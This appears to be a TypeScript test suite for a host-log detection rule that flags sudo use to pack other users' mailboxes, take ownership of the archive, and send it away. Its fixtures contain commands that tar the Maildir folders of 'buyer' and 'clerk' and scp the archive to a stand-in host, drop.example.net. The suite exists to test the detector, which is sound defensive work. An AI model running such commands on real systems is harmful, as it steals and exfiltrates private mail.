import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Process, uidOf } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

interface Facts {
  /** Seconds from the first sudo to the next one. */
  readonly seconds?: number;
  /** Another program's start is recorded as well. */
  readonly ordinary?: boolean;
  readonly network?: boolean;
}

/** Rules record programs with a set-user-ID bit alone: a person gives sudo these lines. What is told of it. */
async function told(lines: readonly string[], { seconds = 5, ordinary = false, network = false }: Facts = {}) {
  const log = new HostLog({ files: false, network });
  const { records } = log;
  log.deliver({ to: 'clerk' });
  if (network) log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  for (const each of ['sudo', 'doas', 'passwd', 'chronyd']) records.node(`/usr/bin/${each}`, 0).mode = 0o4755;
  const who = { uid: uidOf('ops'), auid: uidOf('ops'), ses: 11, tty: 'pts0' };
  records.opened('ops', '/usr/sbin/sshd', who);
  const shell = new Process(records, records.nextPid(), 700, '/bin/bash', who);
  shell.cwd = '/home/ops';
  if (ordinary) shell.run('/bin/ls');
  shell.run('/usr/bin/sudo systemctl status postfix');
  log.wait(seconds * 1000);
  for (const line of lines) {
    const sudo = shell.run(line);
    if (line.includes('/usr/bin/scp ') && network) sudo.connect('203.0.113.66', 22);
    log.wait(3000);
  }
  return (await scanLog(log)).map(({ analytic, severity, title }) => `${analytic} ${severity}: ${title}`).join();
}

const PACK = '/usr/bin/sudo tar -cJf /var/tmp/core.2217.xz -C /home buyer/Maildir clerk/Maildir';
const OWN = '/usr/bin/sudo chown ops /var/tmp/core.2217.xz';
const COPIED = 'Mail of buyer, clerk read and copied';

test('what sudo is told to run is all that is recorded of it: boxes of others, packed', async () => {
  assert.equal(await told([PACK]), `AN1310 informational: ${COPIED}`);
  assert.equal(await told([PACK.replace('sudo', 'sudo -n --')]), `AN1310 informational: ${COPIED}`);
});

test('the archive is then made the own account’s', async () => {
  assert.equal(await told([PACK, OWN]), `AN1310 low: ${COPIED}`);
  assert.equal(await told([PACK, OWN.replace('chown ops', 'chown 1001:1001')]), `AN1310 low: ${COPIED}`);
});

test('somebody else gets it, or another file, or it holds the mail of one: no more than a note', async () => {
  assert.equal(await told([PACK, OWN.replace('chown ops', 'chown dev')]), `AN1310 informational: ${COPIED}`);
  const named = OWN.replace('chown ops', 'chown root ops.txt');
  assert.equal(await told([PACK, named]), `AN1310 informational: ${COPIED}`, 'a file named like the account');
  assert.equal(await told([PACK, OWN.replace('core.2217', 'other')]), `AN1310 informational: ${COPIED}`);
  const one = PACK.replace(' buyer/Maildir', '');
  assert.equal(await told([one, OWN]), 'AN1310 informational: Mail of clerk read and copied');
});

test('it is sent by sudo, too', async () => {
  const scp = '/usr/bin/sudo scp -q /var/tmp/core.2217.xz root@drop.example.net:/in';
  assert.equal(await told([PACK, scp]), 'AN1310 medium: Mail of buyer, clerk read and sent out');
});

test('sudo that only looks, or packs its own things, says nothing', async () => {
  assert.equal(await told(['/usr/bin/sudo du -sh /home/buyer/Maildir', '/usr/bin/sudo ls -l /var/mail']), '');
  assert.equal(await told(['/usr/bin/sudo tar -cf /var/tmp/x /etc', '/usr/bin/sudo chown ops /var/tmp/x']), '');
  assert.equal(await told(['/usr/bin/sudo -l tar -cf /var/tmp/x /var/mail/clerk']), '');
});

test('where other starts are recorded, or the first sudo is not known to be alone, its words are no start', async () => {
  assert.equal(await told([PACK, OWN], { ordinary: true }), '');
  assert.equal(await told([PACK], { seconds: 0.1 }), '');
});

test('all homes, taken from where they lie, are a broad backup; a box in them is none', async () => {
  assert.equal(await told(['/usr/bin/sudo tar -cf /var/tmp/x -C /home .']), '');
  assert.equal(await told(['/usr/bin/sudo tar -cf /var/tmp/x -C / home']), '');
});
